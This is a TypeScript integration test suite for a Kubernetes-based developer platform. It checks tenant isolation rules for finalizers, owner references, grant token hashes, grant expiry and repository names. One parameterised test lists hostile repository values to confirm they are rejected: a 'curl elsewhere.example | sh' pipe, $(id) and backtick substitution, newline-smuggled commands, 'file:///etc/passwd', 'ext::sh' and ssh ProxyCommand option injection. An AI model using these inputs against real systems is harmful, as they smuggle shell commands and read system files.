import {
  coreKinds,
  type KubeClient,
  type KubeObject,
} from '@bailiwick/backstage-kube-controller';
import {
  appKind,
  changeRequestKind,
  finalizer,
  grantKind,
  releaseKind,
  runKind,
  tenantKind,
} from '@bailiwick/backstage-plugin-bailiwick-common/kinds';
import { eventually } from '@bailiwick/backstage-testing';
import { Estate } from '@bailiwick/backstage-testing/world';
import {
  app,
  bundle,
  inDays,
  release,
  request,
} from '@bailiwick/backstage-testing/objects';
import {
  attempt,
  creation,
  forbidden,
  mergePatch,
  type Verdict,
} from './__testUtils__/Verdicts';

const integration = process.env.BAILIWICK_INTEGRATION
  ? describe
  : describe.skip;
jest.setTimeout(120_000);

const group = '/apis/bailiwick.dev/v1alpha1';
const hold = ['evil.test/hold'];
const absent = {
  apiVersion: 'v1',
  kind: 'ConfigMap',
  name: 'absent',
  uid: '00000000-0000-4000-8000-000000000000',
};

/** Everything that a person may make in a tenant, by the path of its kind. */
function possessions(tenant: string, user: string): Record<string, KubeObject> {
  const home = `${tenant}--home`;
  const own = (kind: string, spec: object): KubeObject =>
    ({
      apiVersion: 'bailiwick.dev/v1alpha1',
      kind,
      metadata: { name: 'prices-own', namespace: home },
      spec,
    } as KubeObject);
  return {
    [`${group}/namespaces/${home}/apps`]: app('own', home, {
      owner: `group:default/${tenant}`,
    }),
    [`/api/v1/namespaces/${home}/configmaps`]: bundle(
      'own',
      home,
      '3f9c1e2',
      'code',
    ),
    [`${group}/namespaces/${home}/grants`]: own(grantKind.kind, {
      app: 'prices',
      environment: 'dev',
      subject: user,
      membership: user,
      client: 'api',
      expiresAt: inDays(1),
      tokenHash: `sha256:${'0'.repeat(64)}`,
    }),
    [`${group}/namespaces/${home}/releases`]: release('prices-r1', home, {
      createdBy: user,
    }),
    [`${group}/namespaces/${home}/runs`]: own(runKind.kind, {
      app: 'prices',
      environment: 'dev',
      trigger: 'person',
      requestedBy: user,
    }),
    [`${group}/changerequests`]: request('own', tenant, {
      action: 'promote',
      target: { kind: 'App', name: 'prices', namespace: home },
      proposed: { environment: 'prod', release: 'own' },
      requestedBy: user,
    }),
  };
}

function marked(object: KubeObject, metadata: object): KubeObject {
  return { ...object, metadata: { ...object.metadata, ...metadata } };
}

integration('objects that members write in a tenant', () => {
  let estate: Estate;
  let builder: KubeClient;
  const user = 'user:default/alpha-builder';

  beforeAll(async () => {
    estate = await Estate.start();
    builder = estate.member('alpha', 'builder');
  }, 180_000);
  afterAll(() => estate?.stop(), 60_000);

  it('isolation/61 sets neither owners nor finalizers', async () => {
    const verdicts: [string, Verdict[]][] = [];
    for (const [path, object] of Object.entries(possessions('alpha', user)))
      verdicts.push([
        path,
        [
          await attempt(builder, creation(path, object)),
          await attempt(
            builder,
            creation(path, marked(object, { finalizers: hold })),
          ),
          await attempt(
            builder,
            creation(path, marked(object, { ownerReferences: [absent] })),
          ),
        ],
      ]);
    expect(verdicts).toHaveLength(6);
    for (const [path, said] of verdicts)
      expect([path, ...said]).toEqual([
        path,
        'allowed',
        expect.stringMatching(/^4.*remove metadata.finalizers/),
        expect.stringMatching(/^4.*remove metadata.ownerReferences/),
      ]);
  });

  it('isolation/61 adds neither later, on any door', async () => {
    const home = '/namespaces/alpha--home';
    await builder.request(
      creation(
        `/api/v1${home}/configmaps`,
        bundle('later', 'alpha--home', '3f9c1e2', 'code'),
      ),
    );
    const paths = [
      `/api/v1${home}/configmaps/later-3f9c1e2`,
      `${group}${home}/apps/prices`,
    ];
    for (const path of paths) {
      for (const metadata of [
        { finalizers: hold },
        { ownerReferences: [absent] },
      ])
        expect(await attempt(builder, mergePatch(path, { metadata }))).toMatch(
          /You cannot set (finalizers|owners)/,
        );
      const apply = {
        method: 'PATCH' as const,
        path,
        query: { fieldManager: 'someone', force: 'true' },
        contentType: 'application/apply-patch+yaml',
        body: {
          apiVersion: path.startsWith('/api/') ? 'v1' : appKind.apiVersion,
          kind: path.startsWith('/api/') ? 'ConfigMap' : appKind.kind,
          metadata: { name: path.split('/').pop(), finalizers: hold },
        },
      };
      expect(await attempt(builder, apply)).toMatch(
        /You cannot set finalizers/,
      );
    }
    // The door to the status leaves the metadata as it is.
    const made = await builder.request<KubeObject>(
      creation(
        `${group}/changerequests`,
        possessions('alpha', user)[`${group}/changerequests`],
      ),
    );
    const path = `${group}/changerequests/${made.metadata.name}`;
    await attempt(
      builder,
      mergePatch(`${path}/status`, {
        metadata: { finalizers: hold, ownerReferences: [absent] },
        status: { phase: 'Withdrawn' },
      }),
    );
    const { metadata } = await estate.admin.request<KubeObject>({ path });
    expect(metadata.finalizers).toBeUndefined();
    expect(metadata.ownerReferences).toBeUndefined();
  });

  it("isolation/61 cannot remove the operator's finalizer, so an app leaves nothing behind", async () => {
    const path = `${group}/namespaces/alpha--home/apps/prices`;
    expect(
      await attempt(
        builder,
        mergePatch(path, { metadata: { finalizers: [] } }),
      ),
    ).toMatch(/keep its entry in metadata.finalizers/);
    await estate.admin.request(
      mergePatch(path, { metadata: { finalizers: [finalizer, ...hold] } }),
    );
    // Objects that an earlier version accepted may stay while the app changes, and may be deleted.
    expect(
      await attempt(builder, mergePatch(path, { spec: { title: 'Rates' } })),
    ).toBe('allowed');
    expect(
      await attempt(
        builder,
        mergePatch(path, { metadata: { finalizers: [finalizer] } }),
      ),
    ).toBe('allowed');
  });

  it('isolation/62 deletes no record of a request, even if an earlier version accepted owners', async () => {
    const configMaps = estate.admin.resource(coreKinds.configMaps);
    const { metadata } = await configMaps.create({
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'fuse', namespace: 'alpha--home' },
    });
    const admin = estate.admin.as({
      user: 'user:default/rita',
      groups: ['system:masters', 'system:authenticated'],
    });
    const requests = admin.resource<KubeObject>(changeRequestKind);
    const fuse = { ...absent, name: 'fuse', uid: metadata.uid };
    await requests.create(
      marked(request('record', 'alpha', { action: 'renew', proposed: {} }), {
        finalizers: hold,
        ownerReferences: [fuse],
      }),
    );
    await eventually('The record is free', async () => {
      const found = await requests.get('record');
      return !found.metadata.finalizers && !found.metadata.ownerReferences;
    });
    await configMaps.delete('fuse', { namespace: 'alpha--home' });
    expect((await requests.get('record')).metadata.deletionTimestamp).toBe(
      undefined,
    );
  });

  it('isolation/62 does not prevent a tenant’s end, even if an earlier version accepted finalizers', async () => {
    await estate.giveTenant('gamma');
    for (const [path, object] of Object.entries(
      possessions('gamma', 'user:default/rita'),
    ))
      if (!path.endsWith('changerequests'))
        await estate.admin
          .as({
            user: 'user:default/rita',
            groups: ['system:masters', 'system:authenticated'],
          })
          .request(creation(path, marked(object, { finalizers: hold })));
    const held = await estate.admin
      .resource<KubeObject>(releaseKind)
      .get('prices-r1', { namespace: 'gamma--home' });
    expect(held.metadata.finalizers).toEqual(hold);
    const tenants = estate.admin.resource<KubeObject>(tenantKind);
    await tenants.delete('gamma');
    await eventually(
      'The tenant is gone',
      async () =>
        (
          await tenants.list()
        ).every(({ metadata: { name } }) => name !== 'gamma'),
      60,
    );
    const namespaces = await estate.admin
      .resource<KubeObject>(coreKinds.namespaces)
      .list({ labelSelector: 'bailiwick.dev/tenant=gamma' });
    expect(namespaces).toEqual([]);
  });

  it('isolation/63 shows hashes of tokens only to owners, and lets no grant take another hash', async () => {
    const path = `${group}/namespaces/alpha--home/grants`;
    const own = possessions('alpha', user)[path];
    await builder.request(creation(path, own));
    for (const role of ['builder', 'viewer'] as const) {
      const person = estate.member('alpha', role);
      for (const query of [{}, { watch: 'true', timeoutSeconds: '1' }])
        expect(await attempt(person, { path, query })).toMatch(forbidden);
      expect(
        await attempt(person, { path: `${path}/${own.metadata.name}` }),
      ).toMatch(forbidden);
    }
    const copied = mergePatch(`${path}/${own.metadata.name}`, {
      spec: { tokenHash: `sha256:${'1'.repeat(64)}` },
    });
    expect(await attempt(builder, copied)).toMatch(forbidden);
    expect(await attempt(estate.member('alpha', 'owner'), copied)).toMatch(
      /^4.*Token, app, client and subject of a grant can't be changed/,
    );
    expect(
      await attempt(builder, {
        method: 'DELETE',
        path: `${path}/${own.metadata.name}`,
      }),
    ).toBe('allowed');
    expect(await attempt(estate.member('alpha', 'owner'), { path })).toBe(
      'allowed',
    );
  });

  it('isolation/64 creates no grant without an end', async () => {
    const path = `${group}/namespaces/alpha--home/grants`;
    const own = possessions('alpha', user)[path] as KubeObject & {
      spec: object;
    };
    const until = (days: number) => ({
      ...own,
      metadata: { ...own.metadata, name: 'prices-long' },
      spec: {
        ...own.spec,
        expiresAt: inDays(days),
        tokenHash: `sha256:${'2'.repeat(64)}`,
      },
    });
    expect(await attempt(builder, creation(path, until(365)))).toBe('allowed');
    const tooLong = /^4.*A grant expires at most 366 days after its creation/;
    for (const days of [367, 36_500, 2_900_000])
      expect(await attempt(builder, creation(path, until(days)))).toMatch(
        tooLong,
      );
    await builder.request(creation(path, until(30)));
    for (const [days, verdict] of [
      [365, /^allowed$/],
      [367, tooLong],
    ] as const) {
      const { expiresAt } = until(days).spec;
      const patch = mergePatch(`${path}/prices-long`, { spec: { expiresAt } });
      expect(await attempt(builder, patch)).toMatch(forbidden);
      expect(await attempt(estate.member('alpha', 'owner'), patch)).toMatch(
        verdict,
      );
    }
  });

  it.each([
    'alpha/prices; curl elsewhere.example | sh',
    'alpha/$(id)',
    'alpha/`id`',
    "alpha/x' && id '",
    '--upload-pack=id',
    'alpha/x\nid',
    'alpha\\x',
    'file:///etc/passwd',
    'ext::sh',
    'ssh://-oProxyCommand=id/x',
    'alpha//prices',
    'git@-oX:y/z',
    '-l@host:y/z',
    'git@host:-y/z',
    'git@host:y/-z',
    'git@%2doX:y/z',
    'ssh://git@-oX/y',
    'ssh://-l@host/y',
    'ssh://%2dl@host/y',
    'ssh://git@%2DoX/y',
    'https://host/-y',
    'https://host/%2dy',
    'https://host/y%0Aid',
    'ext::sh -c id',
    'host::y',
    'alpha/x\n',
  ])(
    'isolation/65 names no repository that means something to a shell: %j',
    async repository => {
      const path = `${group}/namespaces/alpha--home/apps`;
      const source = { repository, path: '.', revision: '3f9c1e2' };
      const verdict = await attempt(
        builder,
        creation(path, app('named', 'alpha--home', { source })),
      );
      expect(verdict).toMatch(/^422 .*spec\.source\.repository/);
    },
  );

  it.each([
    'alpha/prices',
    'git@git.example.com:team/code.git',
    'https://me%40example.com@git.example.com/My%20team/code',
    'ssh://git@git.example.com:2222/~team/code.git',
    'https://git.example.com/team/code_1.2+x.git',
  ])('isolation/65 names any other one: %s', async repository => {
    const path = `${group}/namespaces/alpha--home/apps`;
    const source = { repository, path: '.', revision: '3f9c1e2' };
    expect(
      await attempt(
        builder,
        creation(path, app('named', 'alpha--home', { source })),
      ),
    ).toBe('allowed');
  });
});
